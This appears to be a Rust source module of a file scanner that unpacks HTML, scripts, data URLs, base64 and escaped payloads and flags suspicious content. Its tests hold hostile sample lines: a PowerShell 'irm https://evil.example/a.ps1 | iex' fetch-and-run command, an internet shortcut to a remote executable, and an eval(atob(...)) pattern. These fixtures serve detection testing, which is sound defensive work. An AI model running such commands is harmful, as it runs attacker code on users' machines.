//! Text of every kind: HTML, SVG, scripts, plain text, in any encoding.
//!
//! One format for all of them, because a name alone tells many of them apart and a browser or script host does not ask: what is done
//! with the bytes depends on the bytes only. Encodings become UTF-8 layers; scripts, `data:` URLs, base64 and escaped text become layers.
//! WHATWG HTML (tokenization), RFC 2397 (data URLs), RFC 4648 (base64), Unicode 16 (encodings).

mod atob;
mod charset;
mod css;
mod entities;
mod escapes;
mod facts;
mod fold;
mod hex;
mod hosts;
mod html;
mod joined;
mod known;
mod label;
mod literals;
mod numbers;
mod payload;
mod pieces;
mod runs;
mod short;
mod shortcut;
mod unfold;
mod within;

use std::borrow::Cow;

use airlock_proto::{Gap, GapKind};

use crate::formats::{Doc, Format, Match, stored};
use crate::input::Input;
use crate::labels;
use crate::reader::len64;
use crate::signatures::Signature;
use crate::sink::{Found, Sink};

pub use within::LAYER as READABLE;

/// See the module.
pub struct Text;

/// True when markup stands in the bytes that a browser acts on.
pub fn is_page(bytes: &[u8]) -> bool {
    within::is_page(bytes)
}

/// True when words stand in the bytes that a script host acts on.
pub fn is_script(bytes: &[u8]) -> bool {
    hosts::words(bytes).next().is_some()
}

/// True for text in an encoding whose ASCII is single bytes.
pub fn is_single_bytes(bytes: &[u8]) -> bool {
    charset::is_single_bytes(bytes)
}

impl Format for Text {
    fn name(&self) -> &'static str {
        "txt"
    }

    fn doc(&self) -> Doc {
        Doc {
            title: "text (HTML, SVG, XML, scripts, plain)",
            spec: "WHATWG HTML; SVG 2; RFC 2397; RFC 4648; Unicode 16",
            yields: "text in UTF-8; of data that holds markup or a script: what can be read of it (readable); entities of XML replaced, scripts, event handlers, srcdoc pages, data: URLs, base64 and escaped payloads",
            limitations: "scripts are not run; mail messages and MHT pages are a gap; Script Encoder, UUE, BinHex and Intel HEX are a gap",
        }
    }

    fn sniff(&self, input: &Input<'_>) -> Match {
        let carries = || !stored::holds_files(input) && label::container(input).is_some();
        if is_text(input) || within::holds(input) || carries() {
            Match::Maybe
        } else {
            Match::No
        }
    }

    /// A picture that is called `.html` is a page, if it holds one.
    fn is_beside(&self, input: &Input<'_>, read: bool) -> bool {
        within::holds_page(input) || (!read && within::holds(input))
    }

    fn label(&self, input: &Input<'_>) -> &'static str {
        let label = label::of(input);
        let told = || label != "txt" && (html::begins_like_html(input.bytes) || label::container(input).is_some());
        if is_text(input) || told() { label } else { labels::UNKNOWN.name }
    }

    fn unpack(&self, input: &Input<'_>, sink: &mut Sink<'_, '_>) -> Result<(), Gap> {
        if charset::is_too_long(input.bytes) {
            let gap = Gap::new(
                GapKind::OverBudget,
                "text of two or four bytes a character, and too long to be decoded",
            );
            sink.gap(gap.bytes(len64(input.bytes.len())));
        }
        if !is_plain(input) {
            within::unpack(input, sink);
            return Ok(());
        }
        // Everything below works on UTF-8. Other encodings are a layer, which comes here again.
        if let Some(text) = charset::to_utf8(input.bytes) {
            sink.layer_slice("utf-8", "text", text.as_bytes());
            // Text without a byte order mark that looks like UTF-16 is none to a browser.
            if charset::is_unmarked_wide(input.bytes) && within::is_page(input.bytes) {
                within::unpack(input, sink);
            }
            return Ok(());
        }
        if let Some(text) = charset::without_escapes(input.bytes, input.declared_type) {
            sink.layer_slice("utf-8", "text", text.as_bytes());
        }
        let Some(text) = readable(input.bytes) else {
            within::unpack(input, sink);
            return Ok(());
        };
        unopened(input, sink);
        facts::look(&text, sink);
        shortcut::look(&text, sink);
        // A script may hold markup in its strings; that it is a page of its own is not so.
        let script = matches!(input.layer, "script" | "pdf-js" | "vba");
        if !script {
            entities::unpack(&text, sink);
        }
        // What a page shows, or a script puts together, is not opened as a page by its name.
        let shown = matches!(input.layer, "html-text" | "js-folded");
        let page = !script && (html::begins_like_html(text.as_bytes()) || (!shown && html::marks::first(text.as_bytes()).is_some()));
        let opened = if page {
            html::unpack(&text, input.layer == "html-text", sink)
        } else {
            html::Opened::default()
        };
        let acts = opened.acts.then_some(facts::Acts {
            hidden: &opened.hidden,
            scripts: &opened.scripts,
        });
        escapes::unpack(&text, input.bytes, sink);
        let taken = payload::unpack(&text, input.bytes, &opened.urls, sink);
        short::unpack(&text, &taken, &opened.urls, sink);
        // What a page shows its reader is text: the page itself was asked.
        if page && input.layer != "html-text" {
            facts::conclude(&text, acts.as_ref(), &taken, sink);
        }
        Ok(())
    }
}

/// True for text, and for what was made readable of data.
fn is_text(input: &Input<'_>) -> bool {
    input.layer == READABLE || charset::is_text(input.bytes)
}

/// True for text that does not begin as another type does.
fn is_plain(input: &Input<'_>) -> bool {
    is_text(input) && (input.layer == READABLE || labels::find(input.bytes).is_none())
}

/// The bytes as text. Of data that merely begins like text only the beginning is made readable: base64 and hexadecimal payloads are
/// looked for in all of the bytes, and the rules have matched them. `None` for a page in such data, which a browser reads to its end.
fn readable(bytes: &[u8]) -> Option<Cow<'_, str>> {
    const BEGINNING: usize = 256 * 1024;
    let text = if let Ok(text) = std::str::from_utf8(bytes) {
        Cow::Borrowed(text)
    } else if charset::is_mostly_text(bytes) {
        String::from_utf8_lossy(bytes)
    } else if within::is_page(bytes) {
        return None;
    } else {
        String::from_utf8_lossy(bytes.get(..BEGINNING).unwrap_or(bytes))
    };
    // A NUL ends a word, as a blank does.
    let plain = memchr::memchr(0, text.as_bytes()).is_none();
    Some(if plain { text } else { Cow::Owned(text.replace('\0', " ")) })
}

/// Text formats that hold others in a way that is not opened here.
fn unopened(input: &Input<'_>, sink: &mut Sink<'_, '_>) {
    let all = len64(input.bytes.len());
    match label::container(input) {
        Some("eml") => sink.gap(Gap::new(GapKind::Unsupported, "a mail message is recognised and its parts are not opened").bytes(all)),
        Some("mht") => sink.gap(Gap::new(GapKind::Unsupported, "an MHT page is recognised and its parts are not opened").bytes(all)),
        Some("hqx") => sink.gap(Gap::new(GapKind::Unsupported, "a BinHex file is recognised and not opened").bytes(all)),
        Some("ihex") => sink.gap(Gap::new(GapKind::Unsupported, "an Intel HEX file is recognised and not opened").bytes(all)),
        Some("uue") => sink.gap(Gap::new(GapKind::Unsupported, "uuencoded data is recognised and not opened").bytes(all)),
        _ => {}
    }
    if let Some(at) = input.places(Signature::EncodedScript).find(|at| is_encoded_script(input.from(*at))) {
        sink.finding(
            Found::new("script.encoded")
                .at(at, 12)
                .excerpt(input.from(at).get(..24).unwrap_or_default()),
        );
        sink.gap(Gap::new(GapKind::Unsupported, "a script in Script Encoder form is not decoded").bytes(len64(input.from(at).len())));
    }
}

/// `#@~^`, six characters of length in base64, `==`.
fn is_encoded_script(from: &[u8]) -> bool {
    from.get(10..12) == Some(b"==")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::ole2::tests::look;

    #[test]
    fn a_page_is_read_to_its_end_whatever_stands_between() {
        let between = [b"word ".repeat(100_000), vec![1; 400_000]].concat();
        let page = [&b"<!doctype html><p>"[..], &between, b"\xff<script>last()</script>"].concat();
        assert_eq!(readable(&page), None);
        assert!(look(&page).node("script", "script").is(b"last()"));
        let data = [&b"words and "[..], &between, b"\xff"].concat();
        assert!(readable(&data).is_some_and(|text| text.len() < 300_000));
        let text = [&b"words and "[..], &b"more ".repeat(100_000), &[1; 40_000], b"\xff last"].concat();
        assert!(readable(&text).is_some_and(|text| text.ends_with("last")));
    }

    #[test]
    fn a_nul_makes_no_data_of_a_text() {
        for (text, id) in [
            (
                "[InternetShortcut]\r\nURL=file://evil.example/share/a.exe\r\n\0",
                "url.file_scheme_or_unc",
            ),
            ("irm https://evil.example/a.ps1 | iex\r\n\0\0\0", "ps1.encoded_command"),
        ] {
            let found = look(text.as_bytes());
            assert!(found.has(id), "{text}");
        }
        let far = format!(
            "{}\r\n[InternetShortcut]\r\nURL=file://evil.example/a.exe\r\n",
            "; x".repeat(30_000)
        );
        assert!(look(far.as_bytes()).has("url.file_scheme_or_unc"));
    }

    #[test]
    fn literals_that_begin_alike_are_each_opened() {
        let base64 = |text: &str| data_encoding::BASE64.encode(text.as_bytes());
        let (harmless, marker) = (
            "// configuration of the viewer, part one",
            "// configuration of the viewer, part \u{e9}\nx",
        );
        let page = format!("<script>f(atob('{}'));eval(atob('{}'))</script>", base64(harmless), base64(marker));
        assert!(look(page.as_bytes()).node("atob", "base64").is(marker.as_bytes()));
    }

    #[test]
    fn a_word_in_a_comment_is_no_encoded_script() {
        let script = "//#@~^ decoy\n#@~^DgAAAA==\x09w2K+MY,#bC4AAA==^#~@";
        assert!(look(script.as_bytes()).has("script.encoded"));
    }
}
